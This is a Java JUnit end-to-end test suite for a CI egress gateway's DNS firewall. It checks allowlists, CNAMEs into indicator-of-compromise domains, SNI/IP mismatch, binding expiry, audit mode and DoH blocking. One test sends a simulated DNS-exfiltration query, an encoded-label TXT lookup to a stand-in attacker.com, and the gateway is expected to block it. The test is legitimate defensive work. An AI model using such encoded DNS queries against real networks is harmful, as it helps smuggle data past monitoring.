package io.tollgate.gateway.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.tollgate.gateway.events.Event;
import io.tollgate.testbed.CommandResult;
import io.tollgate.testbed.FakeDns;
import io.tollgate.testbed.RootCheck;
import io.tollgate.testbed.Topology;
import java.io.InputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * The dns-firewall end to end: real {@code dig} and {@code curl} in the runner namespace resolving through a public
 * resolver address they hard-code, the gateway intercepting it, an authoritative server upstream that records what
 * reaches it, and the TCP data path judging names and addresses together (DESIGN.md rules 3-5).
 */
@Tag("netns")
class DnsFirewallTest {
    private static final String AUDIT_RUNNER_IP = "10.10.0.3";
    private static final String HARD_CODED_RESOLVER_IP6 = "2001:4860:4860::8888";
    private static final String GIT_IP = "198.51.100.22";
    private static final String OTHER_SSH_IP = "198.51.100.23";
    private static final String SHORT_LIVED_IP = "198.51.100.24";
    private static GatewayFixture fx;
    private static FakeDns hardCodedResolver6;

    @BeforeAll
    static void start() throws Exception {
        assumeTrue(RootCheck.isRoot(), RootCheck.skipReason());
        Map<String, String> hosts = new LinkedHashMap<>();
        hosts.put("github.com", "198.51.100.10");
        hosts.put("attacker.com", "198.51.100.66");
        hosts.put("github.map.cdn.example", "198.51.100.30");
        hosts.put("ipv6.example.org", "2001:db8:1::10");
        hosts.put("git.example.org", GIT_IP);
        hosts.put("ssh.attacker.com", OTHER_SSH_IP);
        hosts.put("dns.google", "198.51.100.77");
        fx = GatewayFixture.create(hosts);
        fx.internet.host("www.github.com", "198.51.100.30");
        fx.dns.cname("www.github.com", "github.map.cdn.example");
        fx.dns.cname("cdn.allowed.example", "c2.evil.invalid");
        fx.dns.a("c2.evil.invalid", "198.51.100.40");
        fx.dns.ttl(1).a("short.example.org", SHORT_LIVED_IP);
        fx.internet.serveEcho(GIT_IP, 22);
        fx.internet.serveEcho(OTHER_SSH_IP, 22);
        fx.internet.serveEcho(SHORT_LIVED_IP, 22);
        hardCodedResolver6 = FakeDns.start(fx.topology, HARD_CODED_RESOLVER_IP6);
        fx.addRunnerAddress(AUDIT_RUNNER_IP);
        fx.startGateway("""
                  dns: {min-ttl: 1s, binding-grace: 2s}
                policies:
                  - name: ci-block
                    sources: [%s/32, "fd10::2/128"]
                    egress-policy: block
                    allowed-endpoints: |
                      github.com:443
                      www.github.com:443
                      cdn.allowed.example
                      ipv6.example.org
                      git.example.org:22
                      short.example.org:22
                  - name: ci-audit
                    sources: [%s/32]
                    egress-policy: audit
                    allowed-endpoints: github.com:443
                ioc:
                  domains: [evil.invalid]
                """.formatted(Topology.RUNNER_IP, AUDIT_RUNNER_IP));
    }

    @AfterAll
    static void stop() throws Exception {
        if (hardCodedResolver6 != null) {
            hardCodedResolver6.close();
        }
        if (fx != null) {
            fx.close();
        }
    }

    @Test
    void allowedNameResolvesThroughAHardCodedResolverAndConnects() throws Exception {
        CommandResult dig = dig("github.com", "A");
        assertThat(dig.stdout().strip()).as(dig.stderr()).isEqualTo("198.51.100.10");
        Event e = fx.awaitEvent("dns allow", ev -> "dns".equals(ev.kind()) && "github.com".equals(ev.qname())
                && "A".equals(ev.qtype()) && Topology.RUNNER_IP.equals(ev.src()));
        assertThat(e.verdict()).isEqualTo("allow");
        assertThat(e.answers()).contains("198.51.100.10");
        assertThat(fx.hardCodedResolver.queries()).as("the hard-coded resolver never sees a query").isEmpty();
        assertThat(fx.curl("https://github.com/").exitCode()).isZero();
    }

    @Test
    void blockedNameGetsNxdomainAndNeverLeavesTheGateway() throws Exception {
        CommandResult dig = fx.runner("dig", "+tries=1", "+time=3", "@" + GatewayFixture.HARD_CODED_RESOLVER_IP,
                "upload.attacker.com", "A");
        assertThat(dig.stdout()).contains("status: NXDOMAIN");
        Event e = fx.awaitEvent("dns block", ev -> "upload.attacker.com".equals(ev.qname()));
        assertThat(e.verdict()).isEqualTo("block");
        assertThat(e.reason()).isEqualTo("not-allowlisted");
        assertThat(fx.dns.queries()).noneMatch(q -> q.name().equals("upload.attacker.com"));
    }

    @Test
    void dnsOverTcpIsInterceptedToo() {
        CommandResult dig = fx.runner("dig", "+tcp", "+short", "+tries=1", "+time=3",
                "@" + GatewayFixture.HARD_CODED_RESOLVER_IP, "github.com", "A");
        assertThat(dig.stdout().strip()).as(dig.stderr()).isEqualTo("198.51.100.10");
    }

    @Test
    void cnameChainOfAnAllowedNameBindsItsAddresses() throws Exception {
        assertThat(dig("www.github.com", "A").stdout()).contains("198.51.100.30");
        CommandResult r = fx.curl("https://www.github.com/");
        assertThat(r.exitCode()).as(r.stderr()).isZero();
        assertThat(fx.awaitEvent("cname allow", ev -> "www.github.com".equals(ev.sni())).verdict()).isEqualTo("allow");
    }

    @Test
    void cnameIntoAnIocNameIsBlocked() throws Exception {
        CommandResult dig = fx.runner("dig", "+tries=1", "+time=3", "@" + GatewayFixture.HARD_CODED_RESOLVER_IP,
                "cdn.allowed.example", "A");
        assertThat(dig.stdout()).contains("status: NXDOMAIN").doesNotContain("198.51.100.40");
        assertThat(fx.awaitEvent("cname ioc", ev -> "cdn.allowed.example".equals(ev.qname())).reason()).isEqualTo("ioc");
    }

    @Test
    void allowedSniSentToTheAddressOfAnotherNameIsSniIpMismatch() throws Exception {
        CommandResult r = fx.curl("-k", "--resolve", "github.com:443:198.51.100.66", "https://github.com/");
        assertThat(r.exitCode()).isNotZero();
        Event e = fx.awaitEvent("mismatch", ev -> "github.com".equals(ev.sni()) && "198.51.100.66:443".equals(ev.dst()));
        assertThat(e.verdict()).isEqualTo("block");
        assertThat(e.reason()).isEqualTo("sni-ip-mismatch");
        assertThat(fx.internet.requests()).noneMatch(req -> "198.51.100.66".equals(req.serverIp()));
    }

    @Test
    void rawTcpPassesToAnAddressTheJobResolvedForAnAllowedNameOnly() throws Exception {
        assertThat(dig("git.example.org", "A").stdout().strip()).isEqualTo(GIT_IP);
        assertThat(sshBanner(GIT_IP)).isEqualTo("SSH-2.0-testbed\r\n");
        assertThat(sshBanner(OTHER_SSH_IP)).as("an address nobody resolved").isEmpty();
        assertThat(fx.awaitEvent("raw block", ev -> (OTHER_SSH_IP + ":22").equals(ev.dst())).reason())
                .isEqualTo("no-name");
    }

    @Test
    void bindingExpiresAfterTtlPlusGrace() throws Exception {
        assertThat(dig("short.example.org", "A").stdout().strip()).isEqualTo(SHORT_LIVED_IP);
        assertThat(sshBanner(SHORT_LIVED_IP)).isEqualTo("SSH-2.0-testbed\r\n");
        Thread.sleep(4_000); // TTL 1 s (min-ttl 1 s) + grace 2 s
        assertThat(sshBanner(SHORT_LIVED_IP)).as("after TTL + grace the address is no longer bound").isEmpty();
    }

    @Test
    void txtQueryWithAnEncodedLabelIsBlockedAndFlaggedAsExfiltration() throws Exception {
        String label = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3emvtgo2djnnwg2";
        CommandResult dig = fx.runner("dig", "+tries=1", "+time=3", "@" + GatewayFixture.HARD_CODED_RESOLVER_IP,
                label + ".attacker.com", "TXT");
        assertThat(dig.stdout()).contains("status: NXDOMAIN");
        Event e = fx.awaitEvent("exfil", ev -> ev.qname() != null && ev.qname().startsWith(label));
        assertThat(e.verdict()).isEqualTo("block");
        assertThat(e.reason()).isEqualTo("dns-exfil");
        assertThat(e.flags()).contains("record-type:TXT");
        assertThat(fx.dns.queries()).noneMatch(q -> q.name().startsWith(label));
    }

    @Test
    void publicDohResolversAreBlockedByDefault() throws Exception {
        CommandResult dig = fx.runner("dig", "+tries=1", "+time=3", "@" + GatewayFixture.HARD_CODED_RESOLVER_IP,
                "dns.google", "A");
        assertThat(dig.stdout()).contains("status: NXDOMAIN");
        assertThat(fx.awaitEvent("doh dns", ev -> "dns.google".equals(ev.qname())).reason()).isEqualTo("ioc");
        assertThat(fx.curl("--resolve", "dns.google:443:198.51.100.77", "https://dns.google/dns-query").exitCode())
                .isNotZero();
        Event e = fx.awaitEvent("doh tcp", ev -> "dns.google".equals(ev.sni()));
        assertThat(e.verdict()).isEqualTo("block");
        assertThat(e.reason()).isEqualTo("ioc");
    }

    @Test
    void auditModeForwardsAndFlagsWouldBlock() throws Exception {
        CommandResult dig = fx.runner("dig", "+short", "+tries=1", "+time=3", "-b", AUDIT_RUNNER_IP,
                "@" + GatewayFixture.HARD_CODED_RESOLVER_IP, "attacker.com", "A");
        assertThat(dig.stdout().strip()).as(dig.stderr()).isEqualTo("198.51.100.66");
        Event e = fx.awaitEvent("audit dns", ev -> "attacker.com".equals(ev.qname()) && AUDIT_RUNNER_IP.equals(ev.src()));
        assertThat(e.verdict()).isEqualTo("would-block");
    }

    @Test
    void ipv6ResolverAndAaaaAnswersWorkLikeIpv4() throws Exception {
        CommandResult dig = fx.runner("dig", "-6", "+short", "+tries=1", "+time=3", "@" + HARD_CODED_RESOLVER_IP6,
                "ipv6.example.org", "AAAA");
        assertThat(dig.stdout().strip()).as(dig.stderr()).isEqualTo("2001:db8:1::10");
        assertThat(hardCodedResolver6.queries()).isEmpty();
        CommandResult r = fx.curl("-6", "https://ipv6.example.org/");
        assertThat(r.exitCode()).as(r.stderr()).isZero();
    }

    private static CommandResult dig(String name, String type) {
        return fx.runner("dig", "+short", "+tries=1", "+time=3", "@" + GatewayFixture.HARD_CODED_RESOLVER_IP, name, type);
    }

    /** Connects like an SSH client (which waits for the server's banner); an empty result means the gateway refused. */
    private static String sshBanner(String ip) throws Exception {
        return fx.topology.runner().call(() -> {
            try (Socket s = new Socket()) {
                s.connect(new InetSocketAddress(ip, 22), 5_000);
                s.setSoTimeout(10_000);
                InputStream in = s.getInputStream();
                return new String(in.readNBytes("SSH-2.0-testbed\r\n".length()), StandardCharsets.US_ASCII);
            } catch (SocketException reset) {
                return "";
            }
        });
    }
}
